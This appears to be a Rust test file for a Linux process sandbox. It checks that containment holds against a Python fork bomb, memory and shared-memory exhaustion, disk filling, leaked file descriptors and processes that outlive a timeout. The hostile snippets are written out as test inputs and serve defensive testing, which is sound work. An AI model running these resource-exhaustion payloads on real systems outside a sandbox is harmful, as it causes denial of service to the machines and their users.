            if l.starts_with("CapBnd") && !ns && me != 0 {
                continue;
            }
            assert!(
                l.ends_with("0000000000000000"),
                "capability present: {l}\n{o}"
            );
        }
        assert!(o.contains(&format!("after su: euid={me}")), "{o}");
        if me != 0 {
            // su could not make us root
            assert!(!o.lines().any(|l| l.trim() == "0"), "{o}");
        }
    }
}

/// Forks until the kernel refuses; prints `BLOCKED forks N …` or `ESCAPED forks 5000`.
const FORK_BOMB: &str = "
import os, time
n = 0
try:
    while n < 5000:
        pid = os.fork()
        if pid == 0:
            time.sleep(3); os._exit(0)
        n += 1
    print('ESCAPED forks', n)
except OSError as e:
    print('BLOCKED forks', n, e)
";

#[test]
fn fork_bomb_is_bounded() {
    let env = Env::new();
    for s in supports() {
        let p = plan(&env.policy(), &s).unwrap();
        let rlimit_or_cgroup = p.isolation == Isolation::Namespaces
            && nix::unistd::geteuid().as_raw() != 0
            || p.cgroup.as_ref().is_some_and(|c| c.pids_max.is_some());
        // The most the sandbox may hold: the policy's 64, or its pid namespace's pid_max when
        // only that bounds it (root without a cgroup), which the kernel keeps at 301 or more.
        let most = match (rlimit_or_cgroup, p.pid_max) {
            (true, _) => 64,
            (false, Some(m)) => m as u32,
            (false, None) => {
                assert!(
                    p.notes.iter().any(|n| n.contains("not limited")),
                    "an unbounded process count must be said: {:?}",
                    p.notes
                );
                eprintln!("skipping: the plan says process count is not bounded here");
                continue;
            }
        };
        let out = py(&env, &env.policy(), &s, FORK_BOMB);
        assert!(out.contains("BLOCKED forks"), "{out}");
        let n: u32 = out.split_whitespace().nth(2).unwrap().parse().unwrap();
        assert!(n <= most, "{n} forks, at most {most} allowed");
    }
}

/// The pid namespace's own pid_max bounds a fork bomb on its own: with no RLIMIT_NPROC and no
/// cgroup, as for root on a host without delegated cgroups.
#[test]
fn pid_max_alone_bounds_a_fork_bomb() {
    let Some(mut s) = ns_support() else {
        eprintln!("skipping: no user namespaces here");
        return;
    };
    if !s.pid_max_per_namespace {
        eprintln!("skipping: this kernel has no per-namespace pid_max (Linux 6.14)");
        return;
    }
    s.cgroup = None;
    let env = Env::new();
    let mut p = plan(&env.policy(), &s).unwrap();
    p.rlimits
        .retain(|r| r.resource != interlock_sandbox::Resource::Nproc);
    let max = p.pid_max.expect("pid_max planned");
    let code =
        format!("print('pid_max', open('/proc/sys/kernel/pid_max').read().strip())\n{FORK_BOMB}");
    let vars: Vec<(OsString, OsString)> =
        vec![("PATH".into(), "/usr/local/bin:/usr/bin:/bin".into())];
    let args: Vec<OsString> = vec!["-c".into(), code.into()];
    let out = command(&p, Path::new(PY), &args, &vars, env.ws(), &helper())
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    eprintln!("{text}\n{}", String::from_utf8_lossy(&out.stderr));
    assert!(text.contains(&format!("pid_max {max}")), "{text}");
    let line = text.lines().find(|l| l.contains("forks")).unwrap_or("");
    assert!(line.starts_with("BLOCKED forks"), "{text}");
    let n: u64 = line.split_whitespace().nth(2).unwrap().parse().unwrap();
    assert!(n < max, "{n} forks with pid_max {max}");
    // The host's own pid_max is untouched.
    let host: u64 = std::fs::read_to_string("/proc/sys/kernel/pid_max")
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    assert_ne!(host, max);
}

#[test]
fn memory_bomb_is_bounded() {
    let env = Env::new();
    for s in supports() {
        let code = "
chunks = []
try:
    for i in range(64):
        chunks.append(bytearray(32 << 20))
    print('ESCAPED mem', len(chunks) * 32, 'MiB')
except MemoryError:
    print('BLOCKED mem', len(chunks) * 32, 'MiB')
";
        let out = py(&env, &env.policy(), &s, code);
        assert!(out.contains("BLOCKED mem"), "{out}");
        let mib: u32 = out.split_whitespace().nth(2).unwrap().parse().unwrap();
        assert!(mib <= 256, "{mib} MiB");
    }
}

#[test]
fn shared_and_memfd_memory_cannot_pass_the_memory_limit() {
    // RLIMIT_DATA does not count shared mappings: 512 MiB of shared anonymous memory, a memfd or
    // SysV shm would pass a 256 MiB limit unless refused (or a memory cgroup bounds the sandbox,
    // in which case the attacker is killed before it can report).
    let env = Env::new();
    for s in supports() {
        let p = plan(&env.policy(), &s).unwrap();
        let cgroup = p.cgroup.as_ref().is_some_and(|c| c.memory_max.is_some());
        assert_eq!(p.seccomp.deny_unaccounted_memory, !cgroup);
        let code = format!(
            "{ATTEMPT}
import mmap
N = 512 << 20
def touch(m):
    for i in range(0, N, 4096):
        m[i] = 1
    return 'touched %d MiB' % (N >> 20)
attempt('shared_anon', lambda: touch(mmap.mmap(-1, N, flags=mmap.MAP_SHARED)))
def memfd():
    fd = os.memfd_create('x')
    os.ftruncate(fd, N)
    return touch(mmap.mmap(fd, N, flags=mmap.MAP_SHARED))
attempt('memfd', memfd)
def sysv():
    shmget = libc.shmget
    shmget.restype = ctypes.c_int
    r = sys_call('shmget', lambda: shmget(0, ctypes.c_size_t(N), 0o1600))()
    return r
attempt('shmget', sysv)
print('PRIVATE', len(mmap.mmap(-1, 1 << 20, flags=mmap.MAP_PRIVATE)), flush=True)
"
        );
        let out = py(&env, &env.policy(), &s, &code);
        assert!(!out.contains("ESCAPED shared_anon"), "{out}");
        assert!(!out.contains("ESCAPED memfd"), "{out}");
        assert!(!out.contains("ESCAPED shmget"), "{out}");
        if !cgroup {
            assert_blocked(&out, &["shared_anon", "memfd", "shmget"]);
            // Private anonymous memory, what every allocator uses, still works.
            assert!(out.contains("PRIVATE 1048576"), "{out}");
        }
    }
}

#[test]
fn a_single_file_cannot_fill_the_disk() {
    let env = Env::new();
    for s in supports() {
        let code = "
n = 0
try:
    with open('big', 'wb') as f:
        for i in range(64):
            f.write(b'x' * (1 << 20)); f.flush(); n += 1
    print('ESCAPED fill', n)
except OSError as e:
    print('BLOCKED fill', n, e)
";
        let out = py(&env, &env.policy(), &s, code);
        assert!(out.contains("BLOCKED fill"), "{out}");
        assert!(std::fs::metadata(env.ws().join("big")).unwrap().len() <= 1 << 20);
        std::fs::remove_file(env.ws().join("big")).unwrap();
    }
}

#[test]
fn environment_is_exactly_what_the_caller_passed() {
    let env = Env::new();
    for s in supports() {
        let out = run(&env, &env.policy(), &s, "/usr/bin/env", &[]);
        let o = String::from_utf8_lossy(&out.stdout);
        let mut keys: Vec<&str> = o.lines().map(|l| l.split('=').next().unwrap()).collect();
        keys.sort();
        assert_eq!(keys, vec!["HOME", "LANG", "PATH"], "{o}");
    }
}

// ---------- positive tests ----------

#[test]
fn interpreters_work_normally() {
    let env = Env::new();
    for s in supports() {
        let ns = plan(&env.policy(), &s).unwrap().isolation == Isolation::Namespaces;
        let out = py(
            &env,
            &env.policy(),
            &s,
            &(format!("NS = {}\n", if ns { "True" } else { "False" })
                + "import json, sqlite3, subprocess, ssl, multiprocessing, tempfile, os
print('sub', subprocess.run(['ls', '/usr'], capture_output=True, text=True).stdout.split()[:1])
if NS:
    print('pool', multiprocessing.Pool(2).map(abs, [-1, -2]))
else:
    print('pool [1, 2] (skipped: no private /dev/shm in the fallback)')
print('tmp', tempfile.mkstemp()[1] is not None)
print('data', open('data.txt').read().strip())
print('cwd', os.getcwd())
print('PYOK')"),
        );
        assert!(
            out.contains("PYOK")
                && out.contains("pool [1, 2]")
                && out.contains("data workspace data"),
            "{out}"
        );
        assert!(
            out.contains(&format!("cwd {}", env.ws().display())),
            "{out}"
        );
        let out = run(
            &env,
            &env.policy(),
            &s,
            "/bin/bash",
            &[
                "-c",
                "set -e; x=$(ls /usr/bin | wc -l); test $x -gt 10; echo hi > f; cat f; cat < <(echo procsubst); echo BASHOK",
            ],
        );
        let o = String::from_utf8_lossy(&out.stdout);
        assert!(o.contains("procsubst") && o.contains("BASHOK"), "{o}");
        if Path::new("/usr/bin/node").exists() {
            let out = run(
                &env,
                &env.policy(),
                &s,
                "/usr/bin/node",
                &[
                    "-e",
                    "const cp=require('child_process'); console.log('NODE', cp.execSync('echo ok').toString().trim(), require('fs').readFileSync('data.txt','utf8').trim())",
                ],
            );
            let o = String::from_utf8_lossy(&out.stdout);
            assert!(o.contains("NODE ok workspace data"), "{o}");
        }
    }
}

#[test]
fn exit_status_and_signals_propagate() {
    let env = Env::new();
    for s in supports() {
        let out = run(&env, &env.policy(), &s, "/bin/sh", &["-c", "exit 7"]);
        assert_eq!(out.status.code(), Some(7));
        let out = run(&env, &env.policy(), &s, "/bin/sh", &["-c", "kill -KILL $$"]);
        assert_eq!(out.status.signal(), Some(9), "{:?}", out.status);
        let out = run(&env, &env.policy(), &s, "/bin/sh", &["-c", "kill -TERM $$"]);
        assert_eq!(out.status.signal(), Some(15), "{:?}", out.status);
        let out = run(&env, &env.policy(), &s, "/nonexistent/prog", &[]);
        assert_eq!(out.status.code(), Some(127));
    }
}

#[test]
fn timeout_kills_everything_the_command_started() {
    // Every process the command starts keeps stdout open; EOF on it therefore proves they are all
    // gone. They would sleep for 10 minutes, so waiting up to a minute for the EOF tells a killed
    // sandbox from a surviving process without depending on how fast this machine is.
    let env = Env::new();
    for s in supports() {
        let mut policy = env.policy();
        policy.timeout_seconds = Some(1);
        let ns = plan(&policy, &s).unwrap().isolation == Isolation::Namespaces;
        // A process that left the session dies too: with the pid namespace in namespace mode, as
        // an orphan of the subreaping supervisor in the Landlock-only fallback.
        let script = "(setsid sleep 600 &); sleep 600 & echo started; sleep 600";
        let mut c = cmd(&env, &policy, &s, "/bin/sh", &["-c", script]);
        c.stdout(Stdio::piped()).stderr(Stdio::null());
        let mut child = c.spawn().unwrap();
        let mut stdout = child.stdout.take().unwrap();
        let pid = child.id();
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let _ = tx.send(child.wait());
        });
        let Ok(st) = rx.recv_timeout(std::time::Duration::from_secs(60)) else {
            let _ = nix::sys::signal::kill(
                nix::unistd::Pid::from_raw(pid as i32),
                nix::sys::signal::Signal::SIGKILL,
            );
            panic!("ns={ns}: the timeout never stopped the command");
        };
        let st = st.unwrap();
        assert_eq!(
            st.code(),
            Some(interlock_sandbox::TIMED_OUT),
            "ns={ns}: {st:?}"
        );
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let mut out = String::new();
            let _ = stdout.read_to_string(&mut out);
            let _ = tx.send(out);
        });
        let out = rx
            .recv_timeout(std::time::Duration::from_secs(60))
            .unwrap_or_else(|_| panic!("ns={ns}: a process outlived the sandbox's timeout"));
        assert_eq!(out.trim(), "started", "ns={ns}: the command never ran");
    }
}

#[test]
fn sigint_to_the_process_group_reaches_the_program_once() {
    let env = Env::new();
    for s in supports() {
        let mut c = cmd(
            &env,
            &env.policy(),
            &s,
            PY,
            &[
                "-u",
                "-c",
                "
import signal, sys, time
n = 0
def h(*a):
    global n; n += 1
signal.signal(signal.SIGINT, h)
print('ready', flush=True)
t = time.time()
while n == 0 and time.time() - t < 10: time.sleep(0.01)
time.sleep(0.3)
print('got', n, flush=True)
sys.exit(3)
",
            ],
        );
        c.stdout(Stdio::piped()).process_group(0);
        let mut child = c.spawn().unwrap();
        let mut r = BufReader::new(child.stdout.take().unwrap());
        let mut line = String::new();
        r.read_line(&mut line).unwrap();
        assert_eq!(line.trim(), "ready");
        nix::sys::signal::killpg(
            nix::unistd::Pid::from_raw(child.id() as i32),
            nix::sys::signal::Signal::SIGINT,
        )
        .unwrap();
        let mut rest = String::new();
        r.read_to_string(&mut rest).unwrap();
        let st = child.wait().unwrap();
        assert_eq!(rest.trim(), "got 1", "SIGINT must arrive exactly once");
        assert_eq!(st.code(), Some(3));
    }
}

#[test]
fn sandbox_dies_with_its_parent() {
    // A shell starts the helper in the background, waits until the sandboxed loop runs (a fixed
    // sleep was flaky when a parallel test's fork bomb slowed the sandbox's start), and is then
    // SIGKILLed; the sandboxed program must die. The marker is replaced by a rename, never
    // truncated, so a loop killed mid-write cannot leave it empty.
    let Some(s) = ns_support() else { return };
    let env = Env::new();
    let marker = env.ws().join("alive");
    let p = plan(&env.policy(), &s).unwrap();
    let req = interlock_sandbox::helper_request(&p, env.ws());
    let script = format!(
        "{helper} __sandbox-exec '{req}' -- /bin/sh -c 'while true; do date +%s%N > {m}.new && mv {m}.new {m}; sleep 0.05; done' & echo started; for i in $(seq 600); do [ -s {m} ] && break; sleep 0.05; done; kill -KILL $$",
        m = marker.display(),
        helper = helper().display()
    );
    let st = Command::new("/bin/bash")
        .arg("-c")
        .arg(&script)
        .stdout(Stdio::null())
        .status()
        .unwrap();
    assert_eq!(st.signal(), Some(9));
    // the helper's parent died; the loop must stop writing
    std::thread::sleep(std::time::Duration::from_millis(400));
    let a = std::fs::read_to_string(&marker).unwrap_or_default();
    std::thread::sleep(std::time::Duration::from_millis(400));
    let b = std::fs::read_to_string(&marker).unwrap_or_default();
    assert!(!a.is_empty(), "the sandboxed loop never ran");
    assert_eq!(
        a, b,
        "sandboxed program still running after its parent died"
    );
}

#[test]
fn setup_failure_exits_125_and_never_runs_the_program() {
    let env = Env::new();
    let s = supports().remove(0);
    let mut p = plan(&env.policy(), &s).unwrap();
    // a writable root that does not exist makes setup fail
    if p.isolation == Isolation::Namespaces {
        p.mounts.push(interlock_sandbox::MountOp::BindWritable {
            path: "/nonexistent/ws".into(),
        });
    } else {
        p.landlock.rules.clear();
        p.seccomp.deny.push("no_such_syscall".into());
    }
    let out = command(
        &p,
        Path::new("/bin/sh"),
        &[
            "-c".into(),
            format!("touch {}/ran", env.ws().display()).into(),
        ],
        &[],
        env.ws(),
        &helper(),
    )
    .output()
    .unwrap();
    assert_eq!(out.status.code(), Some(125));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("failed"),
        "{:?}",
        out
    );
    assert!(!env.ws().join("ran").exists());
}

#[test]
fn no_fds_leak_beyond_four() {
    let env = Env::new();
    for s in supports() {
        // open an inheritable fd 7 in the caller; only 0-4 may reach the program
        let f = std::fs::File::open("/etc/hostname").unwrap();
        let mut c = cmd(
            &env,
            &env.policy(),
            &s,
            "/bin/sh",
            &["-c", "ls /proc/self/fd"],
        );
        use std::os::fd::AsRawFd;
        let raw = f.as_raw_fd();
        // SAFETY (test): dup2 in the child between fork and exec, async-signal-safe.
        unsafe {
            c.pre_exec(move || {
                if libc::dup2(raw, 7) < 0 || libc::dup2(raw, 3) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
        let out = c.output().unwrap();
        let fds: Vec<String> = String::from_utf8_lossy(&out.stdout)
            .split_whitespace()
            .map(String::from)
            .collect();
        assert!(
            fds.contains(&"3".to_string()),
            "fd 3 must be preserved: {fds:?}"
        );
        assert!(!fds.contains(&"7".to_string()), "fd 7 leaked: {fds:?}");
    }
}
